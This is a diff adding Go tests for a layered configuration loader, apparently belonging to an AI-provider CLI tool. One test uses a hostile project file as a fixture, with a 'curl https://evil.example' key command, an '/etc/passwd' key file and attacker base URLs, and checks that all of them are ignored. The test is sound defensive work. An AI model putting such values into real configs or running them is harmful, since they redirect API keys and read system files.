@@ -0,0 +1,164 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+func writeFile(t *testing.T, path, data string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(path, []byte(data), 0o600); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestFindProject(t *testing.T) {
+	root := t.TempDir()
+	project := filepath.Join(root, "repo", ProjectFile)
+	writeFile(t, project, "model = \"m\"\n")
+	deep := filepath.Join(root, "repo", "a", "b")
+	if err := os.MkdirAll(deep, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if got := FindProject(deep); got != project {
+		t.Fatalf("FindProject = %q, want %q", got, project)
+	}
+	if got := FindProject(root); got != "" {
+		t.Fatalf("FindProject above the project = %q", got)
+	}
+}
+
+func TestLoadStackPrecedenceAndOrigins(t *testing.T) {
+	dir := t.TempDir()
+	user := filepath.Join(dir, "config.toml")
+	project := filepath.Join(dir, "repo", ProjectFile)
+	writeFile(t, user, `base_url = "https://user"
+api_key = "user-key"
+model = "user-model"
+temperature = 0.5
+
+[profiles.team]
+model = "team-model"
+`)
+	writeFile(t, project, `model = "project-model"
+num_ctx = 4096
+
+[profiles.team]
+num_ctx = 8192
+`)
+	t.Setenv("AIP_MODEL", "")
+	t.Setenv("AIP_BASE_URL", "")
+	t.Setenv("OPENAI_BASE_URL", "")
+	t.Setenv("AIP_API_KEY", "env-key")
+
+	stack, err := LoadStack(user, project, "")
+	if err != nil {
+		t.Fatalf("LoadStack error: %v", err)
+	}
+	cfg := stack.Merged()
+	if cfg.Model != "project-model" || cfg.BaseURL != "https://user" || cfg.APIKey != "env-key" || cfg.NumCtx != 4096 || cfg.Provider != "openai" {
+		t.Fatalf("unexpected merge: %+v", cfg)
+	}
+	stack.Add(LayerFlags, "", Config{Model: "flag-model"})
+	origins := stack.Origins()
+	for key, want := range map[string]string{"model": LayerFlags, "base_url": LayerUser, "api_key": LayerEnv, "num_ctx": LayerProject, "provider": LayerDefault} {
+		if got := origins[key].Name; got != want {
+			t.Fatalf("origin of %s = %q, want %q", key, got, want)
+		}
+	}
+	out := stack.RenderOrigins(stack.Merged())
+	if !strings.Contains(out, `num_ctx = 4096  # project `+project) || !strings.Contains(out, `model = "flag-model"  # flags`) {
+		t.Fatalf("unexpected origins:\n%s", out)
+	}
+
+	stack, err = LoadStack(user, project, "team")
+	if err != nil {
+		t.Fatalf("LoadStack team error: %v", err)
+	}
+	if cfg := stack.Merged(); cfg.Model != "project-model" || cfg.NumCtx != 8192 {
+		t.Fatalf("unexpected team merge: %+v", cfg)
+	}
+	if _, err := LoadStack(user, project, "nope"); err == nil {
+		t.Fatal("expected unknown profile error")
+	}
+}
+
+func TestLoadStackIgnoresProjectCredentials(t *testing.T) {
+	dir := t.TempDir()
+	user := filepath.Join(dir, "config.toml")
+	project := filepath.Join(dir, "repo", ProjectFile)
+	writeFile(t, user, "base_url = \"https://user\"\napi_key = \"user-key\"\n")
+	writeFile(t, project, `provider = "ollama"
+base_url = "https://evil.example"
+path = "/other-tenant/chat/completions"
+auth_header = "X-Forward-Key"
+auth_scheme = "Token"
+api_key = "project-key"
+api_key_cmd = "curl https://evil.example"
+api_key_file = "/etc/passwd"
+model = "project-model"
+
+[query]
+tenant = "evil"
+
+[headers]
+X-Leak = "1"
+
+[profiles.team]
+base_url = "https://team-evil.example"
+`)
+	for _, name := range []string{"AIP_PROVIDER", "AIP_BASE_URL", "OPENAI_BASE_URL", "AIP_API_KEY", "OPENAI_API_KEY", "AIP_MODEL"} {
+		t.Setenv(name, "")
+	}
+
+	stack, err := LoadStack(user, project, "team")
+	if err != nil {
+		t.Fatalf("LoadStack error: %v", err)
+	}
+	cfg := stack.Merged()
+	if cfg.Provider != "openai" || cfg.BaseURL != "https://user" || cfg.APIKey != "user-key" || cfg.APIKeyCmd != "" || cfg.APIKeyFile != "" || len(cfg.Headers) != 0 ||
+		cfg.Path != "" || len(cfg.Query) != 0 || cfg.AuthHeader != "" || cfg.AuthScheme != "" || cfg.Model != "project-model" {
+		t.Fatalf("project credentials leaked into merge: %+v", cfg)
+	}
+	var got []string
+	for _, ig := range stack.Ignored {
+		got = append(got, ig.Key)
+	}
+	want := "provider base_url path query auth_header auth_scheme api_key api_key_cmd api_key_file headers base_url"
+	if strings.Join(got, " ") != want {
+		t.Fatalf("Ignored = %v, want %s", got, want)
+	}
+	if last := stack.Ignored[len(stack.Ignored)-1]; last.Source != project+" [profiles.team]" {
+		t.Fatalf("unexpected source %q", last.Source)
+	}
+}
+
+func TestEnvOverridesAndErrors(t *testing.T) {
+	dir := t.TempDir()
+	user := filepath.Join(dir, "config.toml")
+	writeFile(t, user, "model = \"file-model\"\nbase_url = \"https://user\"\n")
+	t.Setenv("AIP_BASE_URL", "")
+	t.Setenv("OPENAI_BASE_URL", "")
+	t.Setenv("AIP_API_KEY", "")
+	t.Setenv("OPENAI_API_KEY", "env-key")
+	t.Setenv("AIP_MODEL", "env-model")
+	t.Setenv("AIP_MAX_RETRIES", "many")
+
+	stack, err := LoadStack(user, "", "")
+	if err != nil {
+		t.Fatalf("LoadStack error: %v", err)
+	}
+	overrides := stack.EnvOverrides()
+	if len(overrides) != 1 || overrides[0].Key != "model" || overrides[0].Var != "AIP_MODEL" || overrides[0].Replaced.Source != user {
+		t.Fatalf("EnvOverrides = %+v", overrides)
+	}
+	errs := EnvErrors()
+	if len(errs) != 1 || !strings.Contains(errs[0].Error(), "AIP_MAX_RETRIES") {
+		t.Fatalf("EnvErrors = %v", errs)
+	}
+}